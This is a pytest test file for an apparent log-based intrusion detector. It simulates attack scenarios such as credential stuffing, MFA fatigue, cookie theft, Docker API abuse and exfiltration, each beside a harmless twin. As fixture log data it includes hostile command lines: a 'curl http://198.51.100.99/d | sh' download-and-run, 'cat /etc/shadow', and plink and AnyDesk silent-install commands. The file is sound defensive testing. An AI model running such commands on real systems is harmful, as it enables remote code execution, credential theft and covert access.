"""Behaviours in the middle of a site's ordinary life: whole scans, each beside a harmless twin that must stay silent."""

from __future__ import annotations

from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
from site_world import DAY, SITE, STRANGER, USERS, World, at, home, lease, world

from gatewatch.schema.incidents import Incident, Scan, Severity

INNER = "10.9.0.60"  # an address of the VPN that nobody else has


def one(result: Scan) -> Incident:
    (incident,) = result.incidents
    return incident


def reason(incident: Incident, factor: str) -> str:
    return next((it.note for it in incident.why if it.factor == factor and it.score), "")


def test_an_ordinary_month_is_silent(tmp_path: Path) -> None:
    result = world().scan(tmp_path)
    assert result.incidents == []
    assert not result.strangers
    assert {row.user for row in result.access} == set(USERS)


def stuffing(site: World) -> None:
    for number in range(30):
        user = USERS[number // 3 % 8] if number % 3 == 0 else f"former{number}"
        site.refuse(at("02:00:00") + timedelta(seconds=11 * number), user, STRANGER)


def test_stuffed_credentials_one_of_which_was_right(tmp_path: Path) -> None:
    site = world(["ida"])
    stuffing(site)
    site.vpn(at("02:06:00"), "ida", STRANGER, inner=INNER, hours=2)
    site.ssh(at("02:12:00"), "db02", "ida", INNER)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.CRITICAL
    assert incident.origin.ip == STRANGER
    assert incident.users == ("ida",)
    assert incident.hosts == ("fw01", "db02")
    assert "30 failures of 28 account names" in reason(incident, "guessed password")


def test_stuffed_credentials_none_of_which_was_right_are_attempts(tmp_path: Path) -> None:
    site = world()
    stuffing(site)
    assert site.scan(tmp_path).incidents == []


def test_a_password_forgotten_at_home_is_low(tmp_path: Path) -> None:
    site = world(["ida"])
    for number in range(5):
        site.refuse(at("08:00:00") + timedelta(seconds=20 * number), "ida", home("ida"))
    site.vpn(at("08:05:00"), "ida", home("ida"))
    assert one(site.scan(tmp_path)).severity is Severity.LOW


def test_another_machine_behind_the_vpn_from_a_place_never_seen(tmp_path: Path) -> None:
    """A right password, the usual host: what tells is the name of the machine that the Remote Desktop logon gives."""
    site = world(["hal"])
    site.vpn(at("10:04:00"), "hal", STRANGER, inner=INNER, hours=2)
    site.rdp(at("10:12:00"), "hal", INNER, "DESKTOP-Q1", "0xabc")
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.MEDIUM
    assert reason(incident, "first-seen client") == "desktop-q1: never before for this user"


def at_home_with_a_new_laptop(site: World) -> None:
    site.vpn(at("08:04:00"), "hal", home("hal"), inner=INNER, hours=2)
    site.rdp(at("08:12:00"), "hal", INNER, "DESKTOP-Q1", "0xabc")


def on_a_journey_with_the_own_laptop(site: World) -> None:
    site.vpn(at("10:04:00"), "hal", STRANGER, inner=INNER, hours=2)
    site.rdp(at("10:12:00"), "hal", INNER, "LAP-HAL", "0xabc")


def at_night(site: World) -> None:
    site.vpn(at("02:00:00"), "hal", home("hal"))
    site.ssh(at("02:10:00"), "gate01", "hal", lease("hal"))


@pytest.mark.parametrize("life", [at_home_with_a_new_laptop, on_a_journey_with_the_own_laptop, at_night])
def test_one_thing_that_is_new_is_no_incident(tmp_path: Path, life: Callable[[World], None]) -> None:
    site = world(["hal"])
    life(site)
    assert site.scan(tmp_path).incidents == []


def left(site: World) -> None:
    """The account of ida is closed on the 18th, and the log of the gateway knows nothing of her since."""
    closed = at("16:00:00", DAY - timedelta(days=5))
    site.account(closed, 4725, "ida")
    for name in ("fw01.log", "okta.jsonl"):
        site.files[name] = [(time, text) for time, text in site.files[name] if "ida" not in text or time < closed]
    site.vpn(at("19:00:00"), "ida", home("ida"))


def test_an_account_that_was_closed_comes_in_from_where_it_always_came(tmp_path: Path) -> None:
    site = world(["ida"])
    left(site)
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-account-shut-out", Severity.MEDIUM)
    assert "before, adm-bob had shut ida out at 2026-03-18 16:00:00" in incident.verdict
    assert incident.users == ("ida",)
    assert incident.hosts == ("fw01",)


def enabled_again(site: World) -> None:
    site.account(at("16:00:00", DAY - timedelta(days=5)), 4725, "ida")
    site.account(at("18:00:00", DAY - timedelta(days=5)), 4722, "ida")


def another_s(site: World) -> None:
    site.account(at("16:00:00", DAY - timedelta(days=5)), 4725, "ida", domain="WS07", host="ws07.corp.example")


def locked_by_typing(site: World) -> None:
    site.account(at("16:00:00", DAY - timedelta(days=5)), 4740, "ida")


def at_work_since(site: World) -> None:
    site.account(at("16:00:00", DAY - timedelta(days=5)), 4725, "ida")
    site.rdp(at("07:00:00", DAY - timedelta(days=4)), "ida", "10.0.0.77", "PC-IDA", "0x5555")


@pytest.mark.parametrize("life", [enabled_again, another_s, locked_by_typing, at_work_since])
def test_an_account_that_is_in_use_is_not_closed(tmp_path: Path, life: Callable[[World], None]) -> None:
    site = world()
    life(site)
    assert site.scan(tmp_path).incidents == []


def test_a_session_that_nobody_authenticated(tmp_path: Path) -> None:
    site = world(["ida"])
    site.vpn(at("03:00:00"), "ida", STRANGER, authenticated=False, inner=INNER, hours=1)
    site.ssh(at("03:10:00"), "db02", "ida", INNER)
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-session-without-authentication", Severity.CRITICAL)
    assert incident.hosts == ("fw01", "db02")


def resumed(site: World, ip: str, host: str) -> None:
    site.asa(at("10:00:00"), f"716058: Group <staff> User <ann> IP <{home('ann')}> AnyConnect session lost connection. Waiting to resume.")
    site.asa(at("10:03:00"), f"716059: Group <staff> User <ann> IP <{home('ann')}> AnyConnect session resumed. Connection from <{ip}>.")
    site.ssh(at("10:30:00"), host, "ann", lease("ann"))


def test_a_session_taken_over_tells_what_followed_and_not_what_its_owner_did_before(tmp_path: Path) -> None:
    site = world()
    resumed(site, STRANGER, "db02")
    incident = one(site.scan(tmp_path))
    assert incident.chain == "an1005-session-moved"
    assert (incident.origin.ip, incident.origin.others) == (STRANGER, (home("ann"),))
    assert incident.hosts == ("fw01", "db02")  # the owner's work on gate01 that morning is no part of it
    assert [hop.target for hop in incident.path] == ["fw01", "db02"]


def test_a_session_that_goes_on_over_the_telephone_is_nobody_else_s(tmp_path: Path) -> None:
    site = world()
    resumed(site, "192.0.2.17", "gate01")
    assert site.scan(tmp_path).incidents == []


def test_a_country_out_of_reach_and_a_host(tmp_path: Path) -> None:
    site = world()
    site.vpn(at("09:30:00"), "ann", "203.0.113.200", inner=INNER)
    site.ssh(at("09:40:00"), "gate01", "ann", INNER)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.MEDIUM
    assert "km away at least" in reason(incident, "impossible travel")


def test_the_second_factor_asked_for_until_it_was_given(tmp_path: Path) -> None:
    site = world(["ida"])
    for number in range(6):
        site.okta(at("22:00:00") + timedelta(seconds=70 * number), "user.mfa.okta_verify.deny_push", "ida", STRANGER, "FAILURE")
    site.okta(at("22:07:20"), "user.authentication.auth_via_mfa", "ida", STRANGER)
    site.okta(at("22:07:21"), "user.session.start", "ida", STRANGER, session="sx")
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-mfa-fatigue", Severity.HIGH)


def test_a_patient_guesser_of_several_names_is_one_finding(tmp_path: Path) -> None:
    site = world(["bob"])
    for number in range(40):
        site.refuse(at("00:10:00", DAY - timedelta(days=6)) + timedelta(hours=3.4 * number), ("bob", "carol", "dave", "erik")[number % 4], STRANGER)
    site.vpn(at("02:00:00"), "bob", STRANGER, inner=INNER)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.HIGH
    assert incident.failures == 40
    assert len(incident.chains) > 1  # several windows saw it


POLICY = SITE + "\n[policy]\nrdp_only_after_vpn = true\n"


def test_remote_desktop_past_the_vpn_that_the_policy_demands(tmp_path: Path) -> None:
    site = world(["hal"])
    site.rdp(at("10:00:00"), "hal", STRANGER, "DESKTOP-1", "0xddd")
    incident = one(site.scan(tmp_path, site=POLICY))
    assert (incident.chain, incident.severity) == ("an1004-rdp-without-vpn", Severity.HIGH)


def test_remote_desktop_through_the_vpn_keeps_the_policy(tmp_path: Path) -> None:
    assert world().scan(tmp_path, site=POLICY).incidents == []


def test_the_order_of_records_and_the_cut_into_files_change_nothing(tmp_path: Path) -> None:
    made: list[Incident] = []
    for number, reverse in enumerate((False, True)):
        site = world(["hal", "ida"])
        stuffing(site)
        site.vpn(at("02:06:00"), "ida", STRANGER, inner=INNER, hours=2)
        site.rdp(at("02:12:00"), "hal", INNER, "DESKTOP-Q1", "0xabc")
        (folder := tmp_path / str(number)).mkdir()
        made.append(one(site.scan(folder, reverse=reverse)))
    first, second = made
    assert (first.id, first.verdict, first.severity, first.path) == (second.id, second.verdict, second.severity, second.path)


def backups(site: World, flow: Callable[[World], Callable[..., None]]) -> None:
    """What the firewall says every day: people who browse, and a backup at night."""
    for back in range(20, -1, -1):
        day = DAY - timedelta(days=back)
        flow(site)(at("03:00:00", day), "10.0.0.6", "192.0.2.99", 300_000_000, 1000)
        for number in range(10):
            flow(site)(at("10:00:00", day) + timedelta(minutes=number), f"10.0.0.{100 + number}", "192.0.2.150", 3000, 700_000)


FIREWALLS: list[Callable[[World], Callable[..., None]]] = [lambda site: site.fortigate, lambda site: site.panos]


@pytest.mark.parametrize("flow", FIREWALLS, ids=["fortigate", "panos"])
def test_what_a_firewall_saw_leave_an_entered_host(tmp_path: Path, flow: Callable[[World], Callable[..., None]]) -> None:
    site = world(["bob"])
    backups(site, flow)
    for number in range(8):
        site.refuse(at("02:00:00") + timedelta(seconds=11 * number), "bob", STRANGER)
    site.vpn(at("02:06:00"), "bob", STRANGER, inner=INNER, hours=2)
    site.ssh(at("02:10:00"), "db02", "bob", INNER, minutes=90)
    flow(site)(at("02:50:00"), "10.0.0.6", "203.0.113.9", 5_000_000_000, 9000)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.CRITICAL
    assert incident.hosts == ("fw01", "db02")  # the firewall that saw it is no host of the story
    assert "sent 4,768 MiB out to 203.0.113.9" in incident.verdict
    assert "192.0.2.99" not in incident.verdict  # the backup goes where it always goes


@pytest.mark.parametrize("flow", FIREWALLS, ids=["fortigate", "panos"])
def test_what_leaves_a_host_that_nobody_entered_is_no_incident(tmp_path: Path, flow: Callable[[World], Callable[..., None]]) -> None:
    site = world()
    backups(site, flow)
    flow(site)(at("12:50:00"), "10.0.0.6", "203.0.113.9", 5_000_000_000, 9000)
    assert site.scan(tmp_path).incidents == []


def test_a_second_factor_left_out_by_somebody_who_always_passes_it(tmp_path: Path) -> None:
    site = world(["ida"])
    site.portal(at("08:05:00"), "ida", STRANGER, factor=False)
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-second-factor-missing", Severity.MEDIUM)
    assert incident.verdict.endswith("at 2026-03-23 08:05:00, without the second factor that ida always passes")
    assert reason(incident, "chain") == "ida passed a second factor with each of 15 earlier logons on okta, and none with this one"


def passed_abroad(site: World) -> None:
    site.portal(at("08:05:00"), "ida", STRANGER)


def left_out_at_home(site: World) -> None:
    site.portal(at("08:05:00"), "ida", home("ida"), factor=False)


def left_out_before(site: World) -> None:
    site.portal(at("13:00:00", DAY - timedelta(days=6)), "ida", home("ida"), factor=False)
    site.portal(at("08:05:00"), "ida", STRANGER, factor=False)


def at_the_end_of_the_log(site: World) -> None:
    site.portal(at("18:05:00"), "ida", STRANGER, factor=False)


@pytest.mark.parametrize("life", [passed_abroad, left_out_at_home, left_out_before, at_the_end_of_the_log])
def test_a_second_factor_that_is_not_surely_missing(tmp_path: Path, life: Callable[[World], None]) -> None:
    site = world(["ida"])
    life(site)
    assert site.scan(tmp_path).incidents == []


def containers(site: World) -> None:
    for back in range(10, -1, -1):
        time = at("09:00:00", DAY - timedelta(days=back))
        for step, action in enumerate(("create", "start")):
            site.docker(time + timedelta(seconds=step), action, f"aa{back:010d}", "shop/web:1")
        site.falco(time + timedelta(minutes=3), "Read sensitive file untrusted", "Warning", "cat /etc/shadow")  # it is never quiet


def test_a_container_made_over_the_open_docker_api_that_leaves_for_the_host(tmp_path: Path) -> None:
    """As Doki does it: an image with curl, the host's disk mounted, a program nobody has seen."""
    site = world()
    containers(site)
    site.zeek(at("03:00:00"), STRANGER, "10.0.0.31", 2375)
    site.docker(at("03:00:21"), "create", "1f2e3d4c5b6a", "alpine/curl")
    site.docker(at("03:00:22"), "start", "1f2e3d4c5b6a", "alpine/curl")
    site.falco(at("03:00:25"), "Launch Sensitive Mount Container", "Warning", "chroot /mnt sh -c curl http://198.51.100.99/d | sh")
    site.falco(at("03:00:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.HIGH
    assert incident.hosts == ("docker01",)
    assert {"an1007-control-plane-used", "an1007-node-foothold"} <= set(incident.chains)
    assert "created a container (busy_curie), downloaded a tool" in incident.verdict
    assert "set off an alert of the sensor (/tmp/doki)" in incident.verdict


def test_alerts_of_a_host_that_nobody_entered_are_no_incident(tmp_path: Path) -> None:
    site = world()
    containers(site)
    site.falco(at("03:00:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
    assert site.scan(tmp_path).incidents == []


def test_an_alert_without_an_account_after_a_stranger_came_in(tmp_path: Path) -> None:
    site = world()
    containers(site)
    site.ssh(at("03:00:00"), "docker01", "ops", STRANGER)
    site.falco(at("03:05:30"), "Drop and execute new binary in container", "Critical", "/tmp/doki")
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1007-node-entered-alert", Severity.MEDIUM)
    assert incident.users == ("ops",)


UNDECLARED = SITE.partition("vpn_pools")[0]


@pytest.mark.parametrize(
    ("command", "config", "hosts"),
    [
        (r"C:\t\plink.exe -ssh -pw x ops@gate01", SITE, ("fw01", "rds01.corp.example", "gate01", "db02")),
        (r"C:\t\plink.exe -ssh -l ops -pw x 10.0.0.5", SITE, ("fw01", "rds01.corp.example", "gate01", "db02")),
        (r"C:\t\plink.exe -batch -pw x ops@gate01.corp.example", UNDECLARED, ("fw01", "rds01.corp.example", "gate01")),
    ],
)
def test_the_way_over_a_client_program_goes_on(tmp_path: Path, command: str, config: str, hosts: tuple[str, ...]) -> None:
    """VPN, Remote Desktop, plink as another account, and on from there; the last site declares no address of a host."""
    site = world(["hal"])
    for number in range(8):
        site.refuse(at("02:00:00") + timedelta(seconds=11 * number), "hal", STRANGER)
    site.vpn(at("02:06:00"), "hal", STRANGER, inner=INNER, hours=3)
    site.rdp(at("02:10:00"), "hal", INNER, "DESKTOP-Q", "0xddd")
    site.ran(at("02:15:00"), "hal", "0xddd", command)
    site.ssh(at("02:15:03"), "gate01", "ops", "10.0.0.21", minutes=60)
    site.ssh(at("02:25:00"), "db02", "ops", "10.0.0.5", minutes=20)
    incident = one(site.scan(tmp_path, site=config))
    assert incident.origin.ip == STRANGER
    assert incident.hosts == hosts
    assert incident.users == ("hal", "ops")


def test_a_logon_minutes_after_the_command_from_nobody_knows_where_is_only_possible(tmp_path: Path) -> None:
    site = world(["hal"])
    for number in range(8):
        site.refuse(at("02:00:00") + timedelta(seconds=11 * number), "hal", STRANGER)
    site.vpn(at("02:06:00"), "hal", STRANGER, inner=INNER, hours=3)
    site.rdp(at("02:10:00"), "hal", INNER, "DESKTOP-Q", "0xddd")
    site.ran(at("02:15:00"), "hal", "0xddd", r"C:\t\plink.exe -batch -pw x ops@gate01")
    site.ssh(at("02:16:30"), "gate01", "ops", "10.0.0.21", minutes=60)
    incident = one(site.scan(tmp_path, site=UNDECLARED))
    assert incident.hosts == ("fw01", "rds01.corp.example")
    assert incident.users == ("hal",)


ELSEWHERE = "192.0.2.77"  # the same country


def stolen(site: World, ip: str, agent: str) -> str:
    """A session of ida's browser, in between used at another address."""
    session = site.portal(at("08:00:00"), "ida", home("ida"))
    site.okta(at("08:10:00"), "user.authentication.sso", "ida", ip, session=session, agent=agent)
    site.okta(at("08:20:00"), "user.authentication.sso", "ida", home("ida"), session=session)
    return session


@pytest.mark.parametrize("agent", ["python-requests/2.31", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"])
def test_a_stolen_cookie_used_in_the_same_country(tmp_path: Path, agent: str) -> None:
    site = world(["ida"])
    stolen(site, ELSEWHERE, agent)
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-session-two-clients", Severity.MEDIUM)
    assert (incident.origin.ip, incident.origin.others) == (ELSEWHERE, (home("ida"),))


def test_a_stolen_cookie_used_to_register_a_second_factor(tmp_path: Path) -> None:
    site = world(["ida"])
    session = stolen(site, ELSEWHERE, "python-requests/2.31")
    site.okta(at("08:31:00"), "user.mfa.factor.activate", "ida", ELSEWHERE, session=session)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.HIGH
    assert "registered a second factor or device" in incident.verdict


def test_what_the_owner_registers_is_not_the_thief_s(tmp_path: Path) -> None:
    site = world(["ida"])
    session = stolen(site, ELSEWHERE, "python-requests/2.31")
    site.okta(at("08:31:00"), "user.mfa.factor.activate", "ida", home("ida"), session=session)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.MEDIUM
    assert "registered" not in incident.verdict


def test_the_same_browser_over_the_telephone_is_no_theft(tmp_path: Path) -> None:
    site = world(["ida"])
    stolen(site, ELSEWHERE, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/127")
    assert site.scan(tmp_path).incidents == []


def test_a_script_in_the_user_s_own_network_is_no_theft(tmp_path: Path) -> None:
    site = world(["ida"])
    stolen(site, "198.51.100.99", "python-requests/2.31")
    assert site.scan(tmp_path).incidents == []


def campaign(site: World) -> None:
    """Forty addresses of one provider, one try each, at accounts that exist and some that do not."""
    for number in range(40):
        user = USERS[number * 7 % 9] if number % 3 else f"former{number}"
        site.refuse(at("02:00:00") + timedelta(seconds=61 * number), user, f"203.0.113.{number + 2}")


def test_stuffing_through_many_addresses_of_which_one_gets_in(tmp_path: Path) -> None:
    site = world(["ida"])
    campaign(site)
    site.vpn(at("02:26:00"), "ida", "203.0.113.99", inner=INNER, hours=2)  # an address that never failed
    incident = one(site.scan(tmp_path))
    assert (incident.chain, incident.severity) == ("an1005-campaign-logon", Severity.MEDIUM)
    assert incident.users == ("ida",)
    assert incident.verdict.endswith(", while 17 addresses tried 6 accounts there")


def nobody_else(site: World) -> None:
    site.vpn(at("08:26:00"), "ida", home("ida"))


def the_owner_at_home(site: World) -> None:
    site.vpn(at("02:26:00"), "ida", home("ida"))


def the_owner_on_a_journey_mistypes(site: World) -> None:
    site.refuse(at("02:25:00"), "ida", "192.0.2.30")
    site.vpn(at("02:26:00"), "ida", "192.0.2.30")


@pytest.mark.parametrize("life", [nobody_else, the_owner_at_home, the_owner_on_a_journey_mistypes])
def test_a_campaign_is_no_incident_of_those_who_come_in_meanwhile(tmp_path: Path, life: Callable[[World], None]) -> None:
    site = world(["ida"])
    campaign(site)
    life(site)
    assert site.scan(tmp_path).incidents == []


def forwarded(site: World, *, logged: bool) -> None:
    """A stranger guesses bob on the jump host and reaches the terminal server through a forwarded port, as hal."""
    for number in range(8):
        site.fail(at("02:50:00") + timedelta(seconds=11 * number), "gate01", "bob", STRANGER)
    pid = site.ssh(at("03:00:00"), "gate01", "bob", STRANGER, minutes=60)
    if logged:
        text = "debug1: server_request_direct_tcpip: originator 127.0.0.1 port 50111, target 10.0.0.21 port 3389"
        site.line(at("03:02:00"), "gate01", f"sshd[{pid}]", text)
    site.rdp(at("03:02:10"), "hal", "10.0.0.5", "KALI", "0xeee")


def test_a_port_forwarded_through_ssh_leads_on_to_another_account(tmp_path: Path) -> None:
    site = world(["bob"])
    forwarded(site, logged=True)
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.CRITICAL
    assert "forwarded a port to 10.0.0.21, moved on to rds01.corp.example" in incident.verdict
    assert incident.hosts == ("gate01", "rds01.corp.example")
    assert incident.users == ("bob", "hal")


def test_without_a_record_of_the_forward_nobody_is_blamed_for_the_other_account(tmp_path: Path) -> None:
    site = world(["bob"])
    forwarded(site, logged=False)
    incident = one(site.scan(tmp_path))
    assert incident.hosts == ("gate01",)
    assert incident.users == ("bob",)


def test_a_remote_tool_after_entry_is_told_with_the_account_that_set_it_up(tmp_path: Path) -> None:
    site = world(["hal"])
    site.vpn(at("10:00:00"), "hal", STRANGER, inner=INNER)
    site.rdp(at("10:05:00"), "hal", INNER, "DESKTOP-1", "0xddd")
    site.ran(at("10:20:00"), "hal", "0xddd", r"C:\Users\hal\Downloads\AnyDesk.exe --install C:\AnyDesk --silent")
    site.ran(at("11:20:00"), "gus", "0xeee", r"C:\Users\gus\Downloads\TeamViewer_Setup.exe /S")  # a colleague, who works there as ever
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.MEDIUM
    assert "set up a remote-access tool (C:\\Users\\hal\\Downloads\\AnyDesk.exe" in incident.verdict
    assert "TeamViewer" not in incident.verdict
    assert incident.users == ("hal",)
    assert incident.origin.ip == STRANGER


def test_a_remote_tool_set_up_from_where_one_always_works_is_the_administrators_business(tmp_path: Path) -> None:
    site = world(["hal"])
    site.vpn(at("08:20:00"), "hal", home("hal"))
    site.rdp(at("08:25:00"), "hal", lease("hal"), "LAP-HAL", "0xddd")
    site.ran(at("10:20:00"), "hal", "0xddd", r"C:\Users\hal\Downloads\AnyDesk.exe --install C:\AnyDesk --silent")
    assert site.scan(tmp_path).incidents == []


def test_an_account_unused_for_months_from_a_network_it_never_used(tmp_path: Path) -> None:
    site = world()
    for back in range(110, 70, -3):
        day = DAY - timedelta(days=back)
        site.vpn(at("09:00:00", day), "contractor", "192.0.2.30", inner="10.9.0.90")
        site.ssh(at("09:10:00", day), "gate01", "contractor", "10.9.0.90", "publickey")
    site.vpn(at("11:00:00"), "contractor", "198.51.100.200", inner="10.9.0.90")
    site.ssh(at("11:10:00"), "gate01", "contractor", "10.9.0.90")
    incident = one(site.scan(tmp_path))
    assert incident.severity is Severity.MEDIUM
    assert reason(incident, "dormant account") == "unused for months before"


def test_a_firewall_opened_by_the_administrator_and_first_used_by_a_stranger(tmp_path: Path) -> None:
    site = world()
    site.sudo(at("09:00:00"), "db02", "bob", "/usr/sbin/ufw allow 22/tcp")
    site.ssh(at("21:00:00"), "db02", "postgres", STRANGER, minutes=60)
    site.sudo(at("21:05:00"), "db02", "postgres", "/usr/bin/crontab -e")
    incident = one(site.scan(tmp_path))
    assert incident.chain == "an1005-exposure-opened"
    assert "before, bob had opened the firewall (/usr/sbin/ufw allow 22/tcp)" in incident.verdict
    assert incident.users == ("postgres",)


def test_a_firewall_opened_and_used_by_nobody_new_is_silent(tmp_path: Path) -> None:
    site = world()
    site.sudo(at("09:00:00"), "db02", "bob", "/usr/sbin/ufw allow 22/tcp")
    site.ssh(at("21:00:00"), "db02", "bob", lease("bob"), minutes=60)
    assert site.scan(tmp_path).incidents == []
